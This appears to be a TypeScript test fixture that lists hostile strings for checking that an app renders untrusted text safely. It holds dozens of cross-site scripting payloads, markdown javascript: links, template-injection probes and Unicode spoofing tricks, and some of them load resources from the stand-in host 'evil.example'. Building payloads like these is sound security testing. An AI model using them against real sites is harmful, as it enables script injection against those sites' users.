/** Where payloads call home: nothing of ours ever asks it for anything. */
export const evilHost = 'evil.example';

const trip = 'window.top.__tripped=window.__tripped=1';
const away = `//${evilHost}/x`;

/** Texts that try to become more than text. Each would trip the wire of a page that takes it for markup, script, style or a link to run. */
export const hostileTexts: readonly string[] = [
  `<script>${trip}</script>`,
  `<script src=${away}.js></script>`,
  `<img src=x onerror="${trip}">`,
  `<img src=${away}.png>`,
  `"><img src=x onerror=${trip}>`,
  `'><img src=x onerror=${trip}>`,
  `\`><img src=x onerror=${trip}>`,
  `" onmouseover="${trip}" autofocus onfocus="${trip}" x="`,
  `</textarea></title></style></script><svg onload="${trip}">`,
  `<svg><script>${trip}</script></svg>`,
  `<svg><animate onbegin="${trip}" attributeName=x dur=1s></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${trip}">`,
  `<iframe srcdoc="<script>parent.__tripped=1;${trip}</script>"></iframe>`,
  `<iframe src="javascript:${trip}"></iframe>`,
  `<object data=${away}></object><embed src=${away}>`,
  `<link rel=stylesheet href=${away}.css><style>@import '${away}';*{background:url(${away})}</style>`,
  `<meta http-equiv=refresh content="0;url=http:${away}">`,
  `<base href="http:${away}">`,
  `<form action=http:${away}><button autofocus>Go</button></form>`,
  `<details open ontoggle="${trip}">`,
  `<video><source onerror="${trip}"></video><audio src=x onerror="${trip}">`,
  `<template shadowrootmode=open><img src=x onerror="${trip}"></template>`,
  `<!--><img src=x onerror="${trip}">-->`,
  `<![CDATA[<img src=x onerror="${trip}">]]>`,
  `&lt;img src=x onerror="${trip}"&gt; &#60;script&#62;${trip}&#60;/script&#62; &nbsp;&amp;`,
  `[a link](javascript:${trip})`,
  `[a link](JaVaScRiPt:${trip} "title")`,
  `[a link](java\tscript:${trip})`,
  `[a link](data:text/html,<script>${trip}</script>)`,
  `[a link](vbscript:msgbox)`,
  `![a picture](http:${away}.png)`,
  `[x](https://ok.example/"onclick="${trip})`,
  `<javascript:${trip}>`,
  `**bold <b onclick="${trip}">** _<i>_ ~~<s>~~ \`<code>\` ||<tg-spoiler>||`,
  '```html\n</code></pre><img src=x onerror="window.__tripped=1">\n```',
  `> <blockquote cite="javascript:${trip}">`,
  `javascript:${trip}`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX190cmlwcGVkPTE8L3NjcmlwdD4=`,
  '${window.__tripped=1} {{constructor.constructor("window.__tripped=1")()}} #{7*7} <%= 7*7 %> {%raw%}',
  '{{name}} {title} %s %n $& $1 $` \\u003cscript\\u003e',
  '?lit$123456789$ <!--lit--> <?lit$1$?> <!--?lit$1$-->',
  '\u202Etxt.exe\u202C \u2066left\u2069 \u200F\u200Eright \u061C',
  'Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030Calgo',
  '\uFF1Cscript\uFF1Ewindow.__tripped=1\uFF1C/script\uFF1E \u2028\u2029\u0085',
  '\u200B\u200C\u200D\uFEFF\u00AD\u034F\u3164',
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467} \u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F} \uFDFD \u{12031}',
  '*_~`[]()<>#+-=|{}.!\\&"\'',
  '/start <b>x</b> @everyone #tag $CASH https://t.me/x?start=<script>',
  `${'<b>'.repeat(300)}deep${'</b>'.repeat(300)}`,
  `${'*_'.repeat(400)}marks`,
  'W'.repeat(3000),
];

/** Short ones, for names, titles, fields and files. */
export const hostileNames: readonly string[] = [
  `<img src=x onerror=${trip}>`,
  `"><svg onload="${trip}">`,
  '{{7*7}} ${7*7} <b>bold</b> **bold** [x](javascript:1)',
];
